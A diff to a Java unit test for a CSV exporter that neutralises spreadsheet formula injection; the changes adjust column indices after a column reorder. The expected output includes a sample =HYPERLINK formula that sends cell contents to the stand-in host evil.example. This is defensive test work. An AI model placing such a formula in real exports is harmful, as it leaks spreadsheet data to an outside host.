@@ -37,9 +37,9 @@ class CsvTest {
         "@SUM(1)", "+1+1", "-2+3", "\t=1", "\r=1");
     String csv = Csv.of(history("=1+1", attacks.stream().map(a -> 1.0).toList(), attacks));
     List<List<String>> rows = read(csv);
-    assertThat(rows.get(1).get(1)).isEqualTo("'=1+1");
+    assertThat(rows.get(1).get(4)).isEqualTo("'=1+1");
     for (int i = 0; i < attacks.size(); i++) {
-      assertThat(rows.get(i + 1).get(4)).isEqualTo("'" + attacks.get(i));
+      assertThat(rows.get(i + 1).get(3)).isEqualTo("'" + attacks.get(i));
     }
     assertThat(csv).contains("\"'=1+1\"", "\"'@SUM(1)\"", "\"'+1+1\"",
         "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"x\"\")\"");
@@ -48,13 +48,13 @@ class CsvTest {
   @Test
   void prefixes_a_leading_quote_too_so_the_prefix_can_always_be_undone() throws IOException {
     String csv = Csv.of(history("kr", List.of(1.0), List.of("'=not a formula")));
-    assertThat(read(csv).get(1).get(4)).isEqualTo("''=not a formula");
+    assertThat(read(csv).get(1).get(3)).isEqualTo("''=not a formula");
   }
 
   @Test
   void leaves_ordinary_text_alone() throws IOException {
     String csv = Csv.of(history("kr", List.of(1.0), List.of("weekly report, p. 3")));
-    assertThat(csv).isEqualTo("metric,region,ts,value,source\r\nm,kr,2025-09-10T00:00:00Z,1.0,\"weekly report, p. 3\"\r\n");
+    assertThat(csv).isEqualTo("metric,ts,value,source,region\r\nm,2025-09-10T00:00:00Z,1.0,\"weekly report, p. 3\",kr\r\n");
   }
 
   @Test
